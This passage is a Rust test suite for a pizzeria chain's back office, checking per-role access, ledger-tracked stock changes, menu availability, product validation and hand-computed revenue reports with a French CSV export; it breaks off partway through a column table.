//! The back office against real MariaDB with the demo data: who may do what,
//! stock changes through the ledger, the menu following the stock, products,
//! and revenue checked against sums computed by hand.

use http::StatusCode;
use ocpizza::platform::ids::{IngredientId, OrderId, PizzeriaId};
use ocpizza::stock::{self, Needs};
use serde_json::{json, Value};
use sqlx::MySqlPool;
use std::collections::BTreeMap;
use testkit::{self as testing, json_of, request, scalar, token_for};

const SECRET: &str = "backoffice-test-secret";
/// Basilic frais: on the Margherita (product 1), 3 g each.
const BASIL: i64 = 16;
const MARGHERITA: i64 = 1;

async fn setup(pool: &MySqlPool) -> backoffice::State {
    ocpizza::platform::telemetry::init();
    ocpizza::samples::load_demo(pool).await.unwrap();
    backoffice::State {
        pool: pool.clone(),
        cors: Default::default(),
        secret_key: SECRET.to_owned().into(),
        clock: Default::default(),
    }
}

async fn call(
    state: &backoffice::State,
    method: &str,
    uri: &str,
    body: Option<Value>,
    bearer: Option<&str>,
) -> (StatusCode, Value) {
    let response = backoffice::handle(state, request(method, uri, body, bearer)).await;
    (response.status(), json_of(&response))
}

async fn token(pool: &MySqlPool, email: &str) -> String {
    token_for(pool, SECRET, email).await
}

/// A product on pizzeria `p`'s menu, through the menu function.
async fn on_menu(pool: &MySqlPool, pizzeria: i64, product: i64) -> Value {
    let state = menu::State::new(pool.clone(), Default::default());
    let response = menu::handle(
        &state,
        request("GET", &format!("/pizzerias/{pizzeria}/menu"), None, None),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK);
    json_of(&response)["products"]
        .as_array()
        .and_then(|all| all.iter().find(|p| p["id"] == product).cloned())
        .unwrap_or(Value::Null)
}

async fn level(pool: &MySqlPool, pizzeria: i64, ingredient: i64) -> (i64, i64) {
    let on_hand = scalar(
        pool,
        &format!("SELECT on_hand FROM stock WHERE pizzeria_id = {pizzeria} AND ingredient_id = {ingredient}"),
    )
    .await;
    let reserved = scalar(
        pool,
        &format!("SELECT reserved FROM stock WHERE pizzeria_id = {pizzeria} AND ingredient_id = {ingredient}"),
    )
    .await;
    (on_hand, reserved)
}

async fn movements(pool: &MySqlPool) -> i64 {
    scalar(pool, "SELECT COUNT(*) FROM stock_movements").await
}

#[sqlx::test(migrations = "../../migrations")]
async fn a_manager_sees_and_restocks_their_own_pizzeria_only(pool: MySqlPool) {
    let state = setup(&pool).await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;

    let (status, body) = call(&state, "GET", "/pizzerias/1/stock", None, Some(&manager)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let lines = body["stock"].as_array().unwrap();
    assert!(!lines.is_empty());
    let first = &lines[0];
    for field in [
        "ingredient_id",
        "name",
        "unit",
        "on_hand",
        "reserved",
        "available",
        "low_threshold",
        "low",
    ] {
        assert!(!first[field].is_null(), "{field} in {first}");
    }
    // Low lines come first.
    let lows: Vec<bool> = lines.iter().map(|l| l["low"].as_bool().unwrap()).collect();
    assert!(lows.windows(2).all(|w| w[0] >= w[1]), "{lows:?}");
    for l in lines {
        assert_eq!(
            l["available"].as_i64().unwrap(),
            l["on_hand"].as_i64().unwrap() - l["reserved"].as_i64().unwrap()
        );
    }

    let before = level(&pool, 1, BASIL).await;
    let rows = movements(&pool).await;
    let (status, body) = call(
        &state,
        "POST",
        &format!("/pizzerias/1/stock/{BASIL}/restock"),
        Some(json!({"quantity": 500, "reason": "livraison Metro"})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["stock"]["on_hand"], before.0 + 500);
    assert_eq!(level(&pool, 1, BASIL).await, (before.0 + 500, before.1));
    assert_eq!(movements(&pool).await, rows + 1);
    assert_eq!(
        scalar(&pool, "SELECT COUNT(*) FROM stock_movements WHERE kind = 'restock' AND on_hand_delta = 500 AND reason = 'livraison Metro' AND user_id IS NOT NULL").await,
        1
    );
    assert_eq!(testing::ledger_mismatches(&pool).await, 0);

    // Pizzeria 2 is not theirs, to read or to change.
    let (status, _) = call(&state, "GET", "/pizzerias/2/stock", None, Some(&manager)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = call(
        &state,
        "POST",
        &format!("/pizzerias/2/stock/{BASIL}/restock"),
        Some(json!({"quantity": 500})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(movements(&pool).await, rows + 1);

    // The admin works everywhere; unknown ids are 404.
    let admin = token(&pool, "admin@ocpizza.test").await;
    let (status, _) = call(&state, "GET", "/pizzerias/2/stock", None, Some(&admin)).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = call(&state, "GET", "/pizzerias/999/stock", None, Some(&admin)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = call(
        &state,
        "POST",
        "/pizzerias/1/stock/99999/restock",
        Some(json!({"quantity": 5})),
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // The threshold.
    let (status, body) = call(
        &state,
        "PATCH",
        &format!("/pizzerias/1/stock/{BASIL}"),
        Some(json!({"low_threshold": 1_000_000})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["stock"]["low"], true);
    let (_, body) = call(&state, "GET", "/pizzerias/1/stock", None, Some(&manager)).await;
    assert_eq!(body["stock"][0]["low"], true);
    let (status, _) = call(
        &state,
        "PATCH",
        &format!("/pizzerias/1/stock/{BASIL}"),
        Some(json!({"low_threshold": -1})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
}

#[sqlx::test(migrations = "../../migrations")]
async fn other_roles_and_anonymous_callers_are_refused(pool: MySqlPool) {
    let state = setup(&pool).await;
    let routes: [(&str, &str, Option<Value>); 5] = [
        ("GET", "/pizzerias/1/stock", None),
        (
            "POST",
            "/pizzerias/1/stock/16/restock",
            Some(json!({"quantity": 5})),
        ),
        ("GET", "/products", None),
        ("PUT", "/pizzerias/1/products/1/unavailable", None),
        (
            "GET",
            "/reports/revenue?pizzeria_id=1&from=2026-01-01&to=2026-01-31",
            None,
        ),
    ];
    let rows = movements(&pool).await;
    for email in [
        "pizzaiolo.1@ocpizza.test",
        "cashier.1@ocpizza.test",
        "courier.1@ocpizza.test",
        "client.1@ocpizza.test",
    ] {
        let bearer = token(&pool, email).await;
        for (method, uri, body) in &routes {
            let (status, answer) = call(&state, method, uri, body.clone(), Some(&bearer)).await;
            assert_eq!(
                status,
                StatusCode::FORBIDDEN,
                "{email} {method} {uri}: {answer}"
            );
            assert_eq!(answer["type"], "/problems/forbidden");
        }
    }
    for (method, uri, body) in &routes {
        let (status, _) = call(&state, method, uri, body.clone(), None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{method} {uri}");
    }
    let (status, _) = call(
        &state,
        "GET",
        "/pizzerias/1/stock",
        None,
        Some("not-a-token"),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(movements(&pool).await, rows);
    assert_eq!(
        scalar(&pool, "SELECT COUNT(*) FROM menu_exclusions").await,
        0
    );
}

/// Reserves `quantity` of an ingredient for a (pretend) order, as checkout does.
async fn reserve(pool: &MySqlPool, pizzeria: i64, ingredient: i64, quantity: i64) {
    let mut tx = pool.begin().await.unwrap();
    let needs: Needs = [(IngredientId(ingredient), quantity)].into_iter().collect();
    assert!(
        stock::reserve(&mut tx, PizzeriaId(pizzeria), OrderId(424242), &needs)
            .await
            .unwrap()
    );
    tx.commit().await.unwrap();
}

#[sqlx::test(migrations = "../../migrations")]
async fn waste_and_adjustment_never_go_below_reserved(pool: MySqlPool) {
    let state = setup(&pool).await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    let uri = |kind: &str| format!("/pizzerias/1/stock/{BASIL}/{kind}");
    // Count the shelf at 100 g, then let an order hold 60 g of it.
    let (status, body) = call(
        &state,
        "POST",
        &uri("adjustment"),
        Some(json!({"on_hand": 100, "reason": "inventaire"})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    reserve(&pool, 1, BASIL, 60).await;
    assert_eq!(level(&pool, 1, BASIL).await, (100, 60));
    let rows = movements(&pool).await;

    for (kind, body) in [
        ("waste", json!({"quantity": 41, "reason": "fané"})),
        ("adjustment", json!({"on_hand": 59, "reason": "recompté"})),
        (
            "adjustment",
            json!({"delta": -41, "reason": "erreur de saisie"}),
        ),
    ] {
        let (status, answer) = call(&state, "POST", &uri(kind), Some(body), Some(&manager)).await;
        assert_eq!(status, StatusCode::CONFLICT, "{kind}: {answer}");
        assert_eq!(answer["type"], "/problems/below-reserved");
        assert_eq!(answer["reserved"], 60);
        assert!(
            answer["detail"].as_str().unwrap().contains("at most 40"),
            "{answer}"
        );
    }
    assert_eq!(level(&pool, 1, BASIL).await, (100, 60));
    assert_eq!(movements(&pool).await, rows);

    // A reason is required for waste and adjustments; quantities are checked.
    for (kind, body) in [
        ("waste", json!({"quantity": 5})),
        ("waste", json!({"quantity": 0, "reason": "x"})),
        ("adjustment", json!({"reason": "x"})),
        (
            "adjustment",
            json!({"on_hand": 5, "delta": 1, "reason": "x"}),
        ),
        ("restock", json!({"quantity": -3})),
        ("restock", json!({"quantity": 5, "colour": "red"})),
    ] {
        let (status, answer) = call(
            &state,
            "POST",
            &uri(kind),
            Some(body.clone()),
            Some(&manager),
        )
        .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{kind} {body}: {answer}"
        );
    }
    assert_eq!(movements(&pool).await, rows);

    // Down to exactly what is reserved is fine.
    let (status, body) = call(
        &state,
        "POST",
        &uri("waste"),
        Some(json!({"quantity": 40, "reason": "fané"})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["stock"]["available"], 0);
    assert_eq!(level(&pool, 1, BASIL).await, (60, 60));
    assert_eq!(movements(&pool).await, rows + 1);
    assert_eq!(testing::ledger_mismatches(&pool).await, 0);
}

#[sqlx::test(migrations = "../../migrations")]
async fn a_sold_out_pizza_is_orderable_again_after_a_restock(pool: MySqlPool) {
    let state = setup(&pool).await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    assert_eq!(on_menu(&pool, 1, MARGHERITA).await["available"], true);

    // The basil is counted at 0: no Margherita can be made.
    let (status, body) = call(
        &state,
        "POST",
        &format!("/pizzerias/1/stock/{BASIL}/adjustment"),
        Some(json!({"on_hand": 0, "reason": "plus de basilic"})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let margherita = on_menu(&pool, 1, MARGHERITA).await;
    assert_eq!(margherita["available"], false, "{margherita}");
    assert_eq!(margherita["unavailable_reason"], "sold_out");
    // Pizzeria 2 still has basil.
    assert_eq!(on_menu(&pool, 2, MARGHERITA).await["available"], true);

    // 30 g of basil makes 10 Margheritas (3 g each), if nothing else is shorter.
    let (status, _) = call(
        &state,
        "POST",
        &format!("/pizzerias/1/stock/{BASIL}/restock"),
        Some(json!({"quantity": 30})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let margherita = on_menu(&pool, 1, MARGHERITA).await;
    assert_eq!(margherita["available"], true, "{margherita}");
    assert_eq!(margherita["max_quantity"], 10);
    assert_eq!(testing::ledger_mismatches(&pool).await, 0);
}

#[sqlx::test(migrations = "../../migrations")]
async fn the_admin_edits_the_menu_and_a_manager_hides_a_product_in_one_pizzeria(pool: MySqlPool) {
    let state = setup(&pool).await;
    let admin = token(&pool, "admin@ocpizza.test").await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    let new = json!({
        "category_id": 1, "name": "Basilico", "description": "Tomate, mozzarella, beaucoup de basilic.",
        "price_cents": 1150, "vat_rate_bp": 1000,
        "recipe": {
            "lines": [{"ingredient_id": 1, "quantity": 250}, {"ingredient_id": 2, "quantity": 80},
                      {"ingredient_id": 3, "quantity": 120}, {"ingredient_id": BASIL, "quantity": 6}],
            "steps": ["Étaler la pâte.", "Sauce, mozzarella.", "Cuire 90 s, basilic à la sortie."]
        }
    });

    // Managers read the menu but do not change the group's products.
    let (status, body) = call(&state, "GET", "/products", None, Some(&manager)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let first = &body["products"][0];
    for field in [
        "id",
        "category",
        "price_cents",
        "vat_rate_bp",
        "active",
        "recipe",
    ] {
        assert!(!first[field].is_null(), "{field} in {first}");
    }
    let (status, _) = call(
        &state,
        "POST",
        "/products",
        Some(new.clone()),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // A bad VAT rate (and other mistakes) are listed in a 422.
    let mut bad = new.clone();
    bad["vat_rate_bp"] = json!(1960);
    bad["price_cents"] = json!(0);
    bad["recipe"]["lines"][0]["ingredient_id"] = json!(99999);
    let (status, body) = call(&state, "POST", "/products", Some(bad), Some(&admin)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let fields: Vec<&str> = body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["field"].as_str())
        .collect();
    assert!(fields.contains(&"vat_rate_bp"), "{body}");
    assert!(fields.contains(&"price_cents"), "{body}");
    assert!(fields.contains(&"recipe.lines[0].ingredient_id"), "{body}");
    assert_eq!(
        scalar(
            &pool,
            "SELECT COUNT(*) FROM products WHERE name = 'Basilico'"
        )
        .await,
        0
    );

    let (status, body) = call(&state, "POST", "/products", Some(new.clone()), Some(&admin)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let id = body["product"]["id"].as_i64().unwrap();
    assert_eq!(
        body["product"]["recipe"]["lines"].as_array().unwrap().len(),
        4
    );
    assert_eq!(
        body["product"]["recipe"]["steps"][2],
        "Cuire 90 s, basilic à la sortie."
    );
    assert_eq!(body["product"]["category"], "Pizzas");
    let pizza = on_menu(&pool, 1, id).await;
    assert_eq!(pizza["available"], true, "{pizza}");
    assert_eq!(pizza["price_cents"], 1150);
    // The same name twice is refused.
    let (status, _) = call(&state, "POST", "/products", Some(new), Some(&admin)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    // New price and VAT rate; a wrong rate is refused.
    let uri = format!("/products/{id}");
    let (status, body) = call(
        &state,
        "PATCH",
        &uri,
        Some(json!({"price_cents": 1250, "vat_rate_bp": 550})),
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["product"]["price_cents"], 1250);
    assert_eq!(on_menu(&pool, 1, id).await["price_cents"], 1250);
    let (status, _) = call(
        &state,
        "PATCH",
        &uri,
        Some(json!({"vat_rate_bp": 700})),
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, _) = call(
        &state,
        "PATCH",
        &uri,
        Some(json!({"price_cents": 1})),
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = call(
        &state,
        "PATCH",
        "/products/99999",
        Some(json!({"price_cents": 1000})),
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Manager 1 takes the Margherita off pizzeria 1's menu only.
    let exclusion = format!("/pizzerias/1/products/{MARGHERITA}/unavailable");
    let (status, body) = call(&state, "PUT", &exclusion, None, Some(&manager)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, _) = call(&state, "PUT", &exclusion, None, Some(&manager)).await;
    assert_eq!(status, StatusCode::OK, "idempotent");
    let here = on_menu(&pool, 1, MARGHERITA).await;
    assert_eq!(here["available"], false);
    assert_eq!(here["unavailable_reason"], "not_on_this_menu");
    assert_eq!(on_menu(&pool, 2, MARGHERITA).await["available"], true);
    let (status, _) = call(
        &state,
        "PUT",
        &format!("/pizzerias/2/products/{MARGHERITA}/unavailable"),
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = call(
        &state,
        "PUT",
        "/pizzerias/1/products/99999/unavailable",
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, body) = call(
        &state,
        "GET",
        &format!("/products/{MARGHERITA}"),
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(body["product"]["unavailable_in"], json!([1]));
    let (status, _) = call(&state, "DELETE", &exclusion, None, Some(&manager)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(on_menu(&pool, 1, MARGHERITA).await["available"], true);

    // Deactivated: off every menu.
    let (status, body) = call(
        &state,
        "PATCH",
        &uri,
        Some(json!({"active": false})),
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["product"]["active"], false);
    assert!(on_menu(&pool, 1, id).await.is_null());
    assert!(on_menu(&pool, 2, id).await.is_null());
}

/// One order, straight into the table: (pizzeria, UTC time, channel,
/// payment method, status, subtotal, delivery fee, VAT); counted in the
/// revenue summaries in the same transaction, as checkout counts an order.
async fn order(
    pool: &MySqlPool,
    n: u32,
    (pizzeria, at, channel, method, status, subtotal, fee, vat): (
        i64,
        &str,
        &str,
        &str,
        &str,
        i64,
        i64,
        i64,
    ),
) {
    let mut tx = pool.begin().await.unwrap();
    let inserted = sqlx::query(
        "INSERT INTO orders (number, pizzeria_id, channel, fulfilment, payment_method, status, \
             subtotal_cents, vat_cents, delivery_fee_cents, total_cents, contact_name, contact_phone, \
             tracking_token, created_at, updated_at) \
         VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 'Test', '0600000000', ?, ?, ?)",
    )
    .bind(format!("T{n:05}"))
    .bind(pizzeria)
    .bind(channel)
    .bind(if fee > 0 { "delivery" } else { "pickup" })
    .bind(method)
    .bind(status)
    .bind(subtotal)
    .bind(vat)
    .bind(fee)
    .bind(subtotal + fee)
    .bind(format!("revenue-test-token-{n}"))
    .bind(at)
    .bind(at)
    .execute(&mut *tx)
    .await
    .unwrap();
    let id = ocpizza::platform::ids::OrderId(inserted.last_insert_id() as i64);
    ocpizza::order::revenue::recount(&mut tx, id).await.unwrap();
    tx.commit().await.unwrap();
}

/// Around the change to summer time (29 March 2026, 01:00 UTC: Paris goes
/// from UTC+1 to UTC+2), in UTC, with the Paris time in the comment.
async fn known_orders(pool: &MySqlPool) {
    let orders = [
        // 28 March, Paris day 28.
        (
            1,
            "2026-03-28 11:30:00",
            "web",
            "card",
            "delivered",
            2200,
            300,
            227,
        ), // 12:30
        (
            1,
            "2026-03-28 22:50:00",
            "phone",
            "cash",
            "picked_up",
            1800,
            0,
            164,
        ), // 23:50, just before midnight
        // Paris day 29 (still the 28th in UTC).
        (
            1,
            "2026-03-28 23:10:00",
            "counter",
            "cash",
            "picked_up",
            1000,
            0,
            91,
        ), // 00:10
        (
            2,
            "2026-03-29 18:00:00",
            "web",
            "card",
            "placed",
            2900,
            300,
            291,
        ), // 20:00 (UTC+2)
        (
            2,
            "2026-03-29 21:59:00",
            "web",
            "cash",
            "out_for_delivery",
            1200,
            300,
            136,
        ), // 23:59
        // Paris day 30 (still the 29th in UTC; UTC+1 would put it on the 29th too).
        (
            2,
            "2026-03-29 22:30:00",
            "web",
            "card",
            "delivered",
            1700,
            300,
            182,
        ), // 00:30
        // Not sold: cancelled, waiting for payment.
        (
            1,
            "2026-03-29 10:00:00",
            "web",
            "card",
            "cancelled",
            4700,
            300,
            455,
        ),
        (
            2,
            "2026-03-30 10:00:00",
            "web",
            "card",
            "pending_payment",
            3700,
            300,
            364,
        ),
        // Outside the period: 27 March 23:30 and 31 March 00:05, Paris.
        (
            1,
            "2026-03-27 22:30:00",
            "web",
            "card",
            "delivered",
            7000,
            0,
            636,
        ),
        (
            1,
            "2026-03-30 22:05:00",
            "web",
            "card",
            "delivered",
            7000,
            0,
            636,
        ),
    ];
    for (n, o) in orders.into_iter().enumerate() {
        order(pool, n as u32, o).await;
    }
}

fn slice(orders: i64, revenue_cents: i64) -> Value {
    json!({ "orders": orders, "revenue_cents": revenue_cents })
}

#[sqlx::test(migrations = "../../migrations")]
async fn revenue_matches_sums_computed_by_hand(pool: MySqlPool) {
    let state = setup(&pool).await;
    known_orders(&pool).await;
    let admin = token(&pool, "admin@ocpizza.test").await;
    let manager = token(&pool, "manager.1@ocpizza.test").await;
    let period = "from=2026-03-28&to=2026-03-30";

    let (status, r) = call(
        &state,
        "GET",
        &format!("/reports/revenue?{period}"),
        None,
        Some(&admin),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert!(r["pizzeria_id"].is_null());
    // Sold: 2500 + 1800 + 1000 + 3200 + 1500 + 2000 = 12000, VAT 227 + 164 +
    // 91 + 291 + 136 + 182 = 1091.
    let t = &r["totals"];
    assert_eq!(t["orders"], 6);
    assert_eq!(t["revenue_incl_vat_cents"], 12000);
    assert_eq!(t["vat_cents"], 1091);
    assert_eq!(t["revenue_excl_vat_cents"], 10909);
    assert_eq!(t["average_basket_cents"], 2000);
    assert_eq!(t["by_payment_method"]["card"], slice(3, 7700));
    assert_eq!(t["by_payment_method"]["cash"], slice(3, 4300));
    assert_eq!(t["by_channel"]["web"], slice(4, 9200));
    assert_eq!(t["by_channel"]["phone"], slice(1, 1800));
    assert_eq!(t["by_channel"]["counter"], slice(1, 1000));

    // Per Paris day: 28th 2500 + 1800; 29th 1000 + 3200 + 1500; 30th 2000.
    let days = r["days"].as_array().unwrap();
    assert_eq!(days.len(), 3);
    let day = |i: usize| &days[i];
    assert_eq!(day(0)["date"], "2026-03-28");
    assert_eq!(
        (
            day(0)["orders"].as_i64(),
            day(0)["revenue_incl_vat_cents"].as_i64()
        ),
        (Some(2), Some(4300))
    );
    assert_eq!(day(0)["vat_cents"], 391);
    assert_eq!(day(0)["average_basket_cents"], 2150);
    assert_eq!(
        (
            day(1)["orders"].as_i64(),
            day(1)["revenue_incl_vat_cents"].as_i64()
        ),
        (Some(3), Some(5700))
    );
    assert_eq!(day(1)["revenue_excl_vat_cents"], 5700 - 518);
    assert_eq!(
        (
            day(2)["orders"].as_i64(),
            day(2)["revenue_incl_vat_cents"].as_i64()
        ),
        (Some(1), Some(2000))
    );
    assert_eq!(day(2)["by_payment_method"]["card"], slice(1, 2000));

    // Per pizzeria: 1 sold 2500 + 1800 + 1000, 2 sold 3200 + 1500 + 2000.
    let pizzerias = r["pizzerias"].as_array().unwrap();
    let p = |id: i64| pizzerias.iter().find(|p| p["pizzeria_id"] == id).unwrap();
    assert_eq!(p(1)["orders"], 3);
    assert_eq!(p(1)["revenue_incl_vat_cents"], 5300);
    assert_eq!(p(1)["vat_cents"], 482);
    assert_eq!(p(1)["average_basket_cents"], 1767); // 1766.67
    assert_eq!(p(2)["revenue_incl_vat_cents"], 6700);
    assert_eq!(p(2)["average_basket_cents"], 2233);
    assert_eq!(p(2)["days"][0]["orders"], 0);
    assert_eq!(p(2)["days"][1]["revenue_incl_vat_cents"], 4700);
    assert_eq!(p(3)["orders"], 0);

    // One day at a time: the 28th has one offset, the 29th changes it.
    for (day, orders, revenue) in [
        ("2026-03-28", 2, 4300),
        ("2026-03-29", 3, 5700),
        ("2026-03-30", 1, 2000),
    ] {
        let (status, r) = call(
            &state,
            "GET",
            &format!("/reports/revenue?from={day}&to={day}"),
            None,
            Some(&admin),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{r}");
        assert_eq!(r["totals"]["orders"], orders, "{day}");
        assert_eq!(r["totals"]["revenue_incl_vat_cents"], revenue, "{day}");
    }

    // The manager of pizzeria 1 sees pizzeria 1, not 2, not the group.
    let (status, r) = call(
        &state,
        "GET",
        &format!("/reports/revenue?pizzeria_id=1&{period}"),
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["pizzeria_id"], 1);
    assert_eq!(r["totals"]["revenue_incl_vat_cents"], 5300);
    assert_eq!(r["totals"]["by_channel"]["phone"], slice(1, 1800));
    assert_eq!(r["pizzerias"].as_array().unwrap().len(), 1);
    let (status, _) = call(
        &state,
        "GET",
        &format!("/reports/revenue?pizzeria_id=2&{period}"),
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, body) = call(
        &state,
        "GET",
        &format!("/reports/revenue?{period}"),
        None,
        Some(&manager),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(
        body["detail"].as_str().unwrap().contains("pizzeria_id=1"),
        "{body}"
    );

    // Bounds.
    for query in [
        "from=2026-03-30&to=2026-03-28",
        "from=2025-01-01&to=2026-01-02",
        "from=2026-03-28",
        "from=28/03/2026&to=2026-03-30",
        "from=2026-03-28&to=2026-03-30&format=xml",
        // Found by fuzzing: these made the report panic.
        "from=-0001-12-31&to=-0001-12-31",
        "from=%2B262143-12-31&to=%2B262143-12-31",
        "from=9999-12-31&to=9999-12-31",
    ] {
        let (status, body) = call(
            &state,
            "GET",
            &format!("/reports/revenue?{query}"),
            None,
            Some(&admin),
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{query}: {body}");
        assert_eq!(body["status"], 422, "{query}: {body}");
    }
}

#[sqlx::test(migrations = "../../migrations")]
async fn revenue_exports_as_csv(pool: MySqlPool) {
    let state = setup(&pool).await;
    known_orders(&pool).await;
    let admin = token(&pool, "admin@ocpizza.test").await;
    let response = backoffice::handle(
        &state,
        request(
            "GET",
            "/reports/revenue?from=2026-03-28&to=2026-03-30&format=csv",
            None,
            Some(&admin),
        ),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK);
    let headers = response.headers();
    assert_eq!(
        headers[http::header::CONTENT_TYPE],
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        headers[http::header::CONTENT_DISPOSITION],
        "attachment; filename=\"chiffre-affaires_toutes-pizzerias_2026-03-28_2026-03-30.csv\""
    );
    let body = response.body().to_vec();
    assert!(
        body.starts_with(b"\xEF\xBB\xBF"),
        "a UTF-8 byte order mark first"
    );
    let text = String::from_utf8(body).unwrap();
    let lines: Vec<&str> = text['\u{feff}'.len_utf8()..]
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .collect();
    assert_eq!(
        lines[0],
        "Date;N° pizzeria;Pizzeria;Commandes;CA HT (€);TVA (€);CA TTC (€);Remboursements TTC (€);Panier moyen TTC (€);\
         Carte bancaire : commandes;Carte bancaire : CA TTC (€);Espèces : commandes;Espèces : CA TTC (€);\
         En ligne : commandes;En ligne : CA TTC (€);Téléphone : commandes;Téléphone : CA TTC (€);\
         Comptoir : commandes;Comptoir : CA TTC (€)"
    );
    // 8 pizzerias x 3 days, 8 pizzeria totals, all pizzerias' total.
    assert_eq!(lines.len(), 1 + 8 * 3 + 8 + 1);
    assert!(lines.contains(
        &"2026-03-28;1;OC Pizza Lyon Presqu'île;2;39,09;3,91;43,00;0,00;21,50;1;25,00;1;18,00;1;25,00;1;18,00;0;0,00"
    ), "{text}");
    assert!(lines.contains(
        &"2026-03-30;2;OC Pizza Villeurbanne Gratte-Ciel;1;18,18;1,82;20,00;0,00;20,00;1;20,00;0;0,00;1;20,00;0;0,00;0;0,00"
    ), "{text}");
    assert!(lines.contains(
        &"Total;1;OC Pizza Lyon Presqu'île;3;48,18;4,82;53,00;0,00;17,67;1;25,00;2;28,00;1;25,00;1;18,00;1;10,00"
    ), "{text}");
    assert_eq!(
        *lines.last().unwrap(),
        "Total;;Toutes les pizzerias;6;109,09;10,91;120,00;0,00;20,00;3;77,00;3;43,00;4;92,00;1;18,00;1;10,00"
    );
}

/// The cells of a CSV text (RFC 4180 with `separator` between cells: quoted
/// cells may hold separators, quotes and line ends).
fn csv_rows(text: &str, separator: char) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, c) if c == separator => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "unterminated CSV: {text:?}"
    );
    rows
}

/// The rows of an export as a French spreadsheet opens it: UTF-8 once its
/// byte order mark is taken off, `;` between cells.
fn spreadsheet_rows(body: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(body).expect("UTF-8");
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a byte order mark, which tells a spreadsheet it is UTF-8");
    csv_rows(text, ';')
}

/// A number as a French spreadsheet reads it, in cents: `1234,56` (decimal
/// comma, two decimals) for euros, a whole number for counts. Anything else
/// (`1234.56`, `1 234,56`) it would take for text: the test fails.
fn spreadsheet_number(cell: &str, euros: bool) -> i64 {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
    let value = if euros {
        match unsigned.split_once(',') {
            Some((units, cents)) if digits(units) && digits(cents) && cents.len() == 2 => {
                units.parse::<i64>().unwrap() * 100 + cents.parse::<i64>().unwrap()
            }
            _ => panic!("not an amount a French spreadsheet reads: {cell:?}"),
        }
    } else {
        assert!(digits(unsigned), "not a count: {cell:?}");
        unsigned.parse().unwrap()
    };
    if cell.starts_with('-') {
        -value
    } else {
        value
    }
}

/// The export's figure columns, by header, with where the JSON report keeps
/// the same figure (under a day, a pizzeria or the totals).
const FIGURE_COLUMNS: [(&str, &str); 16] = [
    ("Commandes", "/orders"),
